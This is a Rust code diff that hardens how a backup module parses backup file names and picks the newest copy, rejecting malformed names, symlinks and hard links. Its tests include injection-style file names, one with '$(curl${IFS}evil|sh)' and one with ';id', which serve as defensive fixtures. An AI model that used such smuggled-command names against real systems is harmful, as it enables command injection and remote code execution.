@@ -2,7 +2,7 @@
 
 use std::fs::{self, DirBuilder, File};
 use std::io;
-use std::os::unix::fs::DirBuilderExt as _;
+use std::os::unix::fs::{DirBuilderExt as _, MetadataExt as _};
 use std::path::{Path, PathBuf};
 
 use chrono::Utc;
@@ -63,7 +63,8 @@ pub(super) async fn make(path: &Path, schema: i64) -> Result<PathBuf, StoreError
 
 /// The newest copy of a schema that is at most `known`.
 pub(super) fn newest(path: &Path, known: i64) -> Option<PathBuf> {
-    let fits = all(path).into_iter().filter(|one| one.schema <= known);
+    let fits = all(path).into_iter();
+    let fits = fits.filter(|one| one.schema <= known && is_copy(&one.path));
     fits.max_by(|a, b| a.time.cmp(&b.time)).map(|one| one.path)
 }
 
@@ -78,14 +79,34 @@ fn all(path: &Path) -> Vec<Backup> {
         .collect()
 }
 
+/// What such a copy is called by; whoever may write there can choose any other name, which is none.
 fn parse(path: PathBuf) -> Option<Backup> {
     let name = path.file_name()?.to_str()?;
     let (schema, time) = name
         .strip_prefix(PREFIX)?
         .strip_suffix(SUFFIX)?
         .split_once('-')?;
+    let is_number = !schema.is_empty() && schema.bytes().all(|byte| byte.is_ascii_digit());
+    if !is_number || !is_time(time) {
+        return None;
+    }
     let (schema, time) = (schema.parse().ok()?, time.to_owned());
     Some(Backup { schema, time, path })
+}
+
+/// `20261121T204834123Z` and nothing else: it stands in a command that somebody is told to run.
+fn is_time(text: &str) -> bool {
+    let form = b"00000000T000000000Z";
+    let fits = |(byte, form): (u8, &u8)| match form {
+        b'0' => byte.is_ascii_digit(),
+        _ => byte == *form,
+    };
+    text.len() == form.len() && text.bytes().zip(form).all(fits)
+}
+
+/// No link to elsewhere, nor a file of another name too.
+fn is_copy(path: &Path) -> bool {
+    fs::symlink_metadata(path).is_ok_and(|it| it.is_file() && it.nlink() == 1)
 }
 
 /// Those that are too many: of each schema but the newest two, and of what is left but the newest six.
@@ -130,8 +151,35 @@ mod tests {
 
     #[test]
     fn what_is_no_copy_by_its_name_is_left_alone() {
-        for name in ["new", "pinfold.db", "pinfold-schema-x-1.db", "notes.txt"] {
+        for name in [
+            "new",
+            "pinfold.db",
+            "pinfold-schema-x-20261121T204834123Z.db",
+            "pinfold-schema-+1-20261121T204834123Z.db",
+            "pinfold-schema-1-~$(curl${IFS}evil|sh).db",
+            "pinfold-schema-1-20261121T204834123Z.db;id.db",
+            "pinfold-schema-1-20261121T2048341234.db",
+            "notes.txt",
+        ] {
             assert_eq!(parse(Path::new("/x").join(name)), None, "{name}");
         }
+    }
+
+    #[test]
+    fn the_newest_copy_is_a_file_of_its_own_and_no_link() {
+        let base = tempfile::tempdir().unwrap();
+        let database = base.path().join("pinfold.db");
+        let at = |name: &str| base.path().join(DIRECTORY).join(name);
+        fs::create_dir(base.path().join(DIRECTORY)).unwrap();
+        let good = at("pinfold-schema-1-20261121T204834123Z.db");
+        fs::write(&good, "").unwrap();
+        let elsewhere = base.path().join("shadow");
+        fs::write(&elsewhere, "").unwrap();
+        let link = at("pinfold-schema-1-20271121T204834123Z.db");
+        std::os::unix::fs::symlink(&elsewhere, link).unwrap();
+        let shared = at("pinfold-schema-1-20281121T204834123Z.db");
+        fs::hard_link(&elsewhere, shared).unwrap();
+        fs::create_dir(at("pinfold-schema-1-20291121T204834123Z.db")).unwrap();
+        assert_eq!(newest(&database, 5), Some(good));
     }
 }
